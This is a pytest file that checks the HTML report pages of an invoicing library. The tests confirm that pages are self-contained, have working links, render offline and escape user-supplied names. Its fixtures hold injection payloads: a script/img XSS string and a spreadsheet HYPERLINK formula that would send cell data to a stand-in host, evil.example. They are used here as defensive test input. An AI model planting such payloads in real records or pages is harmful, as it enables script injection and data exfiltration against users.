"""Report pages: what they say, that they need nothing, and that a browser shows them."""

from __future__ import annotations

import html.parser
import json
import re
import subprocess
import sys
import urllib.parse
from decimal import Decimal
from pathlib import Path
from typing import Any

import kehu
import pytest
from browser import show
from conftest import make_customer, make_invoice
from kehu import report
from kehu._charts import bar_charts
from kehu.report import Bar

HOSTILE = "<script>alert('x')</script><img src=http://evil.example/x>\"&"


class Page(html.parser.HTMLParser):
    """The elements of a page that the tests ask about."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attributes)))

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.tags if name == tag]


@pytest.fixture
def books(desk: kehu.Session) -> kehu.Session:
    make_customer(desk, "A", "Acme 有限公司")
    make_customer(desk, "B", HOSTILE)
    make_invoice(desk, "A", "1", "1000.10 CNY", "2020-01-31")
    make_invoice(desk, "A", "2", "0.20 CNY", "2020-02-29")
    make_invoice(desk, "B", "<b>3</b>", "99.70 CNY", "2020-03-31")
    return desk


def data_of(page: str) -> dict[str, Any]:
    found = re.search(r'<script type="application/json" id="data">(.*?)</script>', page, re.S)
    assert found
    data: dict[str, Any] = json.loads(found[1])
    return data


def test_a_kind_that_is_not_there_is_told_with_those_that_are(books: kehu.Session) -> None:
    with pytest.raises(report.NoReport, match="no report is of the kind 'complaint'.*complaints"):
        report.make(books, "complaint")


def test_a_report_of_now_does_not_pass_for_one_of_an_earlier_day(books: kehu.Session) -> None:
    with pytest.raises(report.NoReport, match="'service' tells how things stand now, not on 2020-03-31"):
        report.make(books, "service", as_of="2020-03-31")
    assert report.make(books, "service").as_of == ""


def test_figures_are_those_of_the_query(books: kehu.Session) -> None:
    made = report.make(books, "ageing", as_of="2020-03-31")
    rows = books.query("credit.ageing", {"as_of": "2020-03-31"}).rows()
    total = sum(row.open for row in rows)
    assert total == kehu.Money("1100.00 CNY")
    page = Page(made.html())
    shown = [each["value"] for each in page.all("data")]
    assert shown[0] == str(total)
    data = data_of(made.html())
    assert [Decimal(row["open"].split()[0]) for row in data["sections"][0]["rows"]] == [
        row.open.amount for row in rows
    ]
    assert data["figures"][0]["query"] == "credit.ageing"


@pytest.mark.parametrize("kind", sorted(report.KINDS))
@pytest.mark.parametrize("language", ["en", "zh"])
def test_a_page_needs_nothing_and_every_link_leads_somewhere(
    books: kehu.Session, kind: str, language: str
) -> None:
    text = report.make(books, kind, language=language).html()
    page = Page(text)
    ids = {attributes["id"] for _, attributes in page.tags if "id" in attributes}
    for link in page.all("a"):
        href = link["href"] or ""
        assert href.startswith(("#", "data:text/csv"))
        if href.startswith("#"):
            assert href[1:] in ids
    for tag in ("img", "link", "iframe", "object", "embed"):
        assert page.all(tag) == []
    assert [each.get("type") for each in page.all("script")] == ["application/json"]
    assert "url(" not in text
    assert page.all("html")[0]["lang"] == ("zh-CN" if language == "zh" else "en")
    for table in re.findall(r"<table>.*?</table>", text, re.S):
        assert table.startswith("<table><caption>")
        assert '<th scope="col"' in table
        assert '<th scope="row">' in table


def test_charts_are_inline_and_link_to_records(books: kehu.Session) -> None:
    text = report.make(books, "ageing", as_of="2020-03-31").html()
    page = Page(text)
    assert len(page.all("svg")) == 1
    assert len(page.all("rect")) == 5
    assert page.all("svg")[0]["role"] == "img"
    assert 'href="#receivables-0"' in text


def test_names_stay_texts(books: kehu.Session) -> None:
    for kind in report.KINDS:
        text = report.make(books, kind).html()
        assert "<script>alert" not in text
        assert "<img" not in text
        assert "<b>3" not in text


def test_a_spreadsheet_is_given_no_formula(books: kehu.Session) -> None:
    make_customer(books, "C", '=HYPERLINK("http://evil.example/"&A1,"Acme")')
    make_invoice(books, "C", "-4", "5.00 CNY", "2020-03-31")
    page = urllib.parse.unquote(report.make(books, "ageing").html())
    assert "\"'=HYPERLINK(" in page
    assert "\"=HYPERLINK(" not in page.split('<script type="application/json"')[0]


def test_a_browser_shows_it_offline(books: kehu.Session, tmp_path: Path) -> None:
    shown = show(report.make(books, "ageing", language="zh").html(), tmp_path)
    assert shown.bars == 5
    assert '<data value="1100.00 CNY">1,100.00 CNY</data>' in shown.dom
    assert "<script>alert" not in shown.dom.split('<script type="application/json"')[0]
    assert "未收, CNY" in shown.labels


def test_a_chart_has_one_scale_for_each_currency_and_says_what_it_measures() -> None:
    bars = [
        Bar("a", kehu.Money("1234.50 CNY"), "x"),
        Bar("b", kehu.Money("5000 JPY"), "x"),
        Bar("c", kehu.Money("617.25 CNY"), "x", "bad"),
        Bar("a customer whose name is longer than a chart has room for", 3, "x"),
    ]
    charts = Page(bar_charts(bars, "Sums", "Amount"))
    assert [each["aria-label"] for each in charts.all("svg")] == [
        "Sums", "Sums (CNY)", "Sums (JPY)"]
    count, first, second, yen = (float(each["width"] or 0) for each in charts.all("rect"))
    assert first == pytest.approx(2 * second, abs=0.1)
    assert 0 < yen < 860 and 0 < count < 860
    text = bar_charts(bars, "Sums", "Amount")
    marks = re.findall(r'<text class="mark"[^>]*>([^<]*)<', text)
    assert marks == ["0", "1", "2", "3", "Amount", "0", "500", "1,000", "Amount, CNY",
                     "0", "1,000", "2,000", "3,000", "4,000", "5,000", "Amount, JPY"]
    assert "a customer whose name is longer than a char…" in text
    assert "<title>a customer whose name is longer than a chart has room for: 3</title>" in text


def test_the_command_line_writes_it(tmp_path: Path) -> None:
    shop = tmp_path / "shop.kehu"
    with kehu.open(shop) as db:
        make_customer(db.session(actor="li.wei", role="administrator"), "A", "Acme")
    page = tmp_path / "page.html"
    command = [sys.executable, "-m", "kehu.cli", "report", str(shop), "limit-use"]
    subprocess.run([*command, "--html", str(page), "--lang", "zh"], check=True, capture_output=True)
    assert "授信额使用情况" in page.read_text(encoding="utf-8")
